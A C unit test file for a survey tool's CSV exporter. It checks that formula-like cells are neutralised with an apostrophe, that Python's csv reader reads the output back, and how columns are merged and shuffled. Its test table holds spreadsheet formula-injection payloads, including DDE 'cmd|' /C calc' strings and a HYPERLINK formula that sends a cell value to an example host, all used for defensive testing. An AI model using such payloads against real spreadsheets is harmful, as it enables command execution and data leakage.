/* SPDX-License-Identifier: MIT */
/* csv_test.c: no cell can run in a spreadsheet, and another program's CSV reader gets back what was written; columns of all
 * versions, merged; what a row must not show is not there. */
#include "unit/lib/export/form.h"

#include "lib/export/csv.h"

#include <unistd.h>

enum { OUT_MAX = 4 << 20 };

static struct arena arena;
static struct strbuf out;

static int set_up(void **state)
{
	(void) state;
	arena_init(&arena, 64 << 20);
	strbuf_init(&out, OUT_MAX);
	return 0;
}

static int tear_down(void **state)
{
	(void) state;
	strbuf_fini(&out);
	arena_fini(&arena);
	return 0;
}

/* ---- cells --------------------------------------------------------------------------------------------------- */

static const struct cell {
	const char *name;
	const char *text;
	size_t length;   /* 0: strlen */
	bool is_formula; /* an apostrophe goes before it */
} cells[] = {
	{"empty", "", 0, false},
	{"plain", "plain", 0, false},
	{"comma", "one, two", 0, false},
	{"quotes", "she said \"no\"", 0, false},
	{"only a quote", "\"", 0, false},
	{"two lines", "one\ntwo", 0, false},
	{"carriage return inside", "one\r\ntwo", 0, false},
	{"Welsh", "Sut oedd y digwyddiad? Gŵyl", 0, false},
	{"Bengali", "আমার ভালো লেগেছে", 0, false},
	{"emoji", "👍🏽", 0, false},
	{"spaces around", " both ", 0, false},
	{"a number", "12.5", 0, false},
	{"an apostrophe", "'tis", 0, false},
	{"equals inside", "a=b", 0, false},
	{"minus inside", "well-known", 0, false},
	{"semicolons", "a;=1+1", 0, false},
	{"tab inside", "a\tb", 0, false},
	{"no-break space alone", "\xC2\xA0", 0, false},
	{"equals", "=1+1", 0, true},
	{"equals behind a mark of direction", "\xE2\x81\xA6=1+1", 0, true},
	{"plus behind an em space", "\xE2\x80\x83+1", 0, true},
	{"at behind a variation selector and a form feed", "\xEF\xB8\x8F\f@A1", 0, true},
	{"minus behind a delete", "\x7F-1", 0, true},
	{"a letter behind a mark of direction", "\xE2\x81\xA6x=1", 0, false},
	{"plus", "+44 20", 0, true},
	{"minus", "-1", 0, true},
	{"at", "@SUM(A1)", 0, true},
	{"tab", "\t=1", 0, true},
	{"carriage return", "\r=1", 0, true},
	{"line feed", "\n=1", 0, true},
	{"NUL", "\0=1", 3, true},
	{"full-width equals", "＝1+1", 0, true},
	{"full-width plus", "＋1", 0, true},
	{"full-width minus", "－1", 0, true},
	{"full-width at", "＠SUM(A1)", 0, true},
	{"space, equals", " =1+1", 0, true},
	{"no-break space, equals", "\xC2\xA0=1+1", 0, true},
	{"zero-width space, equals", "\xE2\x80\x8B=1+1", 0, true},
	{"byte order mark, equals", "\xEF\xBB\xBF=1+1", 0, true},
	{"ideographic space, full-width equals", "\xE3\x80\x80＝1", 0, true},
	{"right-to-left mark, plus", "\xE2\x80\x8F+1", 0, true},
	{"link", "=HYPERLINK(\"http://example.org/?\"&A1,\"x\")", 0, true},
	{"command", "=cmd|' /C calc'!A0", 0, true},
	{"command with plus", "+cmd|' /C calc'!A0", 0, true},
	{"DDE with at", "@SUM(1+1)*cmd|' /C calc'!A0", 0, true},
	{"minus, letters", "-none of it", 0, true},
	{"equals, quotes, line", "=\"a\"\n\"b\"", 0, true},
	{"only equals", "=", 0, true},
};

static size_t cell_length(const struct cell *cell)
{
	return cell->length > 0 ? cell->length : strlen(cell->text);
}

static void a_formula_is_made_text(void **state)
{
	(void) state;
	for (size_t i = 0; i < COUNT_OF(cells); i++) {
		print_message("# %s\n", cells[i].name);
		strbuf_reset(&out);
		csv_cell(&out, cells[i].text, cell_length(&cells[i]));
		assert_int_equal(strbuf_error(&out), ERR_OK);
		assert_int_equal(strncmp(strbuf_text(&out), "\"'", 2) == 0, cells[i].is_formula);
	}
}

static void write_hex(FILE *file, const char *bytes, size_t length)
{
	for (size_t i = 0; i < length; i++)
		fprintf(file, "%02x", (unsigned char) bytes[i]);
	fputc('\n', file);
}

/* Python's csv module, as strict as it goes, reads every cell of the table back. */
static void another_reader_gets_it_back(void **state)
{
	(void) state;
	static const char script[] =
		"import csv, sys\n"
		"rows = list(csv.reader(open(sys.argv[1], encoding='utf-8', newline=''), strict=True))\n"
		"wanted = [bytes.fromhex(line).decode() for line in open(sys.argv[2])]\n"
		"assert len(rows) == len(wanted), (len(rows), len(wanted))\n"
		"for row, text in zip(rows, wanted):\n"
		"    assert row == [text, 'end'], (row, text)\n";
	char folder[] = "/tmp/csv-test-XXXXXX";
	assert_non_null(mkdtemp(folder));
	char csv[64], hex[64], program[64], command[256];
	snprintf(csv, sizeof(csv), "%s/cells.csv", folder);
	snprintf(hex, sizeof(hex), "%s/cells.hex", folder);
	snprintf(program, sizeof(program), "%s/read.py", folder);
	FILE *hex_file = fopen(hex, "w"), *csv_file = fopen(csv, "w"), *program_file = fopen(program, "w");
	assert_true(hex_file != NULL && csv_file != NULL && program_file != NULL);
	for (size_t i = 0; i < COUNT_OF(cells); i++) {
		char wanted[128];
		size_t length = cell_length(&cells[i]);
		csv_cell(&out, cells[i].text, length);
		strbuf_puts(&out, ",end\r\n");
		wanted[0] = '\'';
		memcpy(wanted + cells[i].is_formula, cells[i].text, length);
		write_hex(hex_file, wanted, length + cells[i].is_formula);
	}
	assert_int_equal(strbuf_error(&out), ERR_OK);
	assert_int_equal(fwrite(strbuf_text(&out), 1, out.length, csv_file), out.length);
	fputs(script, program_file);
	assert_int_equal(fclose(csv_file) | fclose(hex_file) | fclose(program_file), 0);
	snprintf(command, sizeof(command), "python3 %s %s %s", program, csv, hex);
	int code = system(command);
	snprintf(command, sizeof(command), "rm -rf %s", folder);
	assert_int_equal(system(command), 0);
	assert_int_equal(code, 0);
}

/* ---- columns ------------------------------------------------------------------------------------------------- */

static const char *csv_of(const struct export_row *rows, size_t count, bool is_apart, bool is_full)
{
	struct export_list list = {"responses", rows, count, is_apart, is_full};
	strbuf_reset(&out);
	assert_int_equal(export_csv(&list, &arena, &out), ERR_OK);
	return strbuf_text(&out);
}

#define BOM "\xEF\xBB\xBF"

static void columns_of_all_versions_are_merged(void **state)
{
	(void) state;
	static const struct export_row one[] = {{"{}", &form_one, NULL, NULL}};
	static const struct export_row both[] = {{"{}", &form_one, NULL, NULL}, {"{}", &form_two, NULL, NULL}};
	assert_string_equal(csv_of(one, 1, false, false),
			    BOM "better,dropped,topics,topics__prisons,topics__courts,overall\r\n,,,,,\r\n");
	assert_string_equal(csv_of(both, 2, false, false),
			    BOM "overall,hard,hard__words,hard__noise,hard__none,"
				"topics,topics__courts,topics__police,topics__other,topics__prisons,"
				"know_before,know_now,better,dropped\r\n"
				",,,,,,,,,,,,,\r\n,,,,,,,,,,,,,\r\n");
	assert_string_equal(csv_of(NULL, 0, false, false), BOM);
}

static void several_choices_have_columns_of_their_own(void **state)
{
	(void) state;
	static const struct export_row rows[] = {
		{"{\"better\":\"More chairs, please\",\"topics\":[\"courts\",\"other\"]}", &form_two, NULL, NULL}};
	assert_string_equal(csv_of(rows, 1, false, false),
			    BOM "overall,hard,hard__words,hard__noise,hard__none,"
				"topics,topics__courts,topics__police,topics__other,know_before,know_now,better\r\n"
				",,,,,courts other,1,0,1,,,\"More chairs, please\"\r\n");
}

/* ---- faces --------------------------------------------------------------------------------------------------- */

/* The cell of column NAME in data row 0 of a CSV without quotes. */
static const char *cell_of(const char *csv, const char *name, char *found, size_t size)
{
	const char *names = csv + strlen(BOM), *line = strstr(csv, "\r\n") + 2;
	size_t length = strlen(name);
	while (strncmp(names, name, length) != 0 || (names[length] != ',' && names[length] != '\r')) {
		names = strchr(names, ',');
		assert_non_null(names);
		names++;
		line += strcspn(line, ",\r") + 1;
	}
	snprintf(found, size, "%.*s", (int) strcspn(line, ",\r"), line);
	return found;
}

static void faces_are_merged_as_soon_as_one_row_needs_it(void **state)
{
	(void) state;
	static const char plain[] = "{\"overall\":\"good\"}", plain_ok[] = "{\"overall\":\"ok\"}",
			  easy[] = "{\"overall\":\"no\"}", unknown[] = "{\"overall\":\"dont_know\"}";
	static const struct {
		const char *name;
		const char *mine, *beside;
		bool is_full;
		const char *wanted;
	} rows[] = {
		{"plain rows keep their codes", plain, plain_ok, false, "good"},
		{"beside an Easy Read row they do not", plain, easy, false, "top"},
		{"nor does the Easy Read row", easy, plain, false, "bottom"},
		{"a middle", plain_ok, easy, false, "middle"},
		{"what Easy Read alone offers is left out", unknown, plain, false, ""},
		{"practice keeps codes", easy, plain, true, "no"},
		{"practice keeps refusals", unknown, plain, true, "dont_know"},
	};
	for (size_t i = 0; i < COUNT_OF(rows); i++) {
		char found[32];
		const struct export_row mine = {rows[i].mine, &form_two, NULL, NULL},
					beside = {rows[i].beside, &form_two, NULL, NULL};
		const struct export_row pair[] = {mine, beside};
		bool is_there = false;
		print_message("# %s\n", rows[i].name);
		/* Rows are shuffled: draw until mine, which is another word than its neighbour's, comes first. */
		for (int draw = 0; draw < 200 && !is_there; draw++)
			is_there = strcmp(cell_of(csv_of(pair, 2, false, rows[i].is_full), "overall", found,
						  sizeof(found)),
					  rows[i].wanted) == 0;
		assert_true(is_there);
	}
}

static void mapped_codes_never_show_a_face(void **state)
{
	(void) state;
	static const struct export_row rows[] = {
		{"{\"hard\":[\"too_loud\"],\"overall\":\"yes\"}", &form_two, NULL, NULL},
		{"{\"hard\":[\"words\",\"noise\"],\"overall\":\"poor\"}", &form_two, NULL, NULL},
		{"{\"hard\":[\"none\"],\"overall\":\"very_good\"}", &form_two, NULL, NULL},
	};
	static const char *const codes[] = {"too_loud", "words", "noise", "none", "yes", "poor", "very_good"};
	const char *csv = csv_of(rows, 3, false, false);
	for (size_t i = 0; i < COUNT_OF(codes); i++)
		assert_null(strstr(csv, codes[i]));
	assert_non_null(strstr(csv, "overall,hard,hard__top,hard__bottom,topics"));
	assert_non_null(strstr(csv, "bottom,bottom,0,1,")); /* two choices, one word */
	assert_non_null(strstr(csv, "top,top,1,0,"));
	assert_non_null(strstr(csv, "top,bottom,0,1,"));
	csv = csv_of(rows, 3, false, true);
	assert_non_null(strstr(csv, "hard__words,hard__noise,hard__none,hard__too_loud,hard__fine"));
	for (size_t i = 0; i < COUNT_OF(codes); i++)
		assert_non_null(strstr(csv, codes[i]));
}

static void apart_rows_are_a_list_of_their_own(void **state)
{
	(void) state;
	static const struct export_row rows[] = {
		{"{\"age\":\"18_24\",\"language\":\"Cymraeg\"}", &form_two, "cy", "kiosk"},
	};
	static const struct export_row old[] = {{"{\"age\":\"25_34\"}", &form_one, "en-x-easy", "phone"}};
	assert_string_equal(csv_of(rows, 1, true, true),
			    BOM "response_language,mode,age,language\r\ncy,kiosk,18_24,Cymraeg\r\n");
	assert_string_equal(csv_of(old, 1, true, true), BOM "language,mode,age\r\nen-x-easy,phone,25_34\r\n");
}

static void what_the_form_does_not_know_stops_it(void **state)
{
	(void) state;
	static const struct {
		const char *name;
		const char *answers;
	} rows[] = {
		{"no JSON", "{"},
		{"no object", "[]"},
		{"an unknown field", "{\"nothing\":\"x\"}"},
		{"an apart field", "{\"age\":\"18_24\"}"},
		{"an unknown choice", "{\"overall\":\"excellent\"}"},
		{"one of several as text", "{\"topics\":\"courts\"}"},
		{"several of one", "{\"overall\":[\"good\"]}"},
		{"a number for a text", "{\"better\":1}"},
	};
	for (size_t i = 0; i < COUNT_OF(rows); i++) {
		const struct export_row row = {rows[i].answers, &form_two, NULL, NULL};
		struct export_list list = {"responses", &row, 1, false, false};
		print_message("# %s\n", rows[i].name);
		strbuf_reset(&out);
		assert_int_equal(export_csv(&list, &arena, &out), ERR_CORRUPT);
		assert_string_equal(strbuf_text(&out), "");
	}
}

static void each_export_is_shuffled(void **state)
{
	(void) state;
	struct export_row rows[12];
	char answers[12][32], first[1024];
	for (size_t i = 0; i < COUNT_OF(rows); i++) {
		snprintf(answers[i], sizeof(answers[i]), "{\"better\":\"row %zu\"}", i);
		rows[i] = (struct export_row){answers[i], &form_two, NULL, NULL};
	}
	snprintf(first, sizeof(first), "%s", csv_of(rows, COUNT_OF(rows), false, false));
	assert_string_not_equal(csv_of(rows, COUNT_OF(rows), false, false), first); /* equal once in 12 factorial */
	for (size_t i = 0; i < COUNT_OF(rows); i++) {
		char wanted[16];
		snprintf(wanted, sizeof(wanted), ",row %zu\r\n", i);
		assert_non_null(strstr(strbuf_text(&out), wanted));
	}
}

#define EACH(test) cmocka_unit_test_setup_teardown(test, set_up, tear_down)

/* Easy Read asks one half of this pair, and not the other question at all: empty cells would show who used it. */
static void what_one_face_leaves_out_has_no_column(void **state)
{
	(void) state;
	static const struct question trust = {.name = "trust",
					      .type = QUESTION_SELECT_ONE,
					      .page = &main_page,
					      .list = &plain_list,
					      .is_pair = true,
					      .faces[EASY] = {.list = &face_list, .pair = PAIR_PLAIN}};
	static const struct question learned = {
		.name = "learned", .type = QUESTION_TEXT, .page = &main_page, .faces[EASY].is_omitted = true};
	static const struct field fields[] = {{"trust_before", &trust, FIELD_BEFORE, NULL},
					      {"trust_now", &trust, FIELD_NOW, NULL},
					      {"learned", &learned, FIELD_WHOLE, NULL}};
	static const struct form form = FORM(1, fields);
	const struct export_row plain = {"{\"learned\":\"law\",\"trust_before\":\"ok\",\"trust_now\":\"good\"}", &form,
					 NULL, NULL};
	const struct export_row easy = {"{\"trust_now\":\"yes\"}", &form, NULL, NULL};
	const struct export_row both[] = {plain, easy};
	assert_string_equal(csv_of(&plain, 1, false, false), BOM "trust_before,trust_now,learned\r\nok,good,law\r\n");
	assert_string_equal(csv_of(both, 2, false, false), BOM "trust_now\r\ntop\r\ntop\r\n");
	assert_non_null(strstr(csv_of(both, 2, false, true), "trust_before,trust_now,learned"));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		EACH(a_formula_is_made_text),
		EACH(another_reader_gets_it_back),
		EACH(columns_of_all_versions_are_merged),
		EACH(several_choices_have_columns_of_their_own),
		EACH(faces_are_merged_as_soon_as_one_row_needs_it),
		EACH(mapped_codes_never_show_a_face),
		EACH(what_one_face_leaves_out_has_no_column),
		EACH(apart_rows_are_a_list_of_their_own),
		EACH(what_the_form_does_not_know_stops_it),
		EACH(each_export_is_shuffled),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
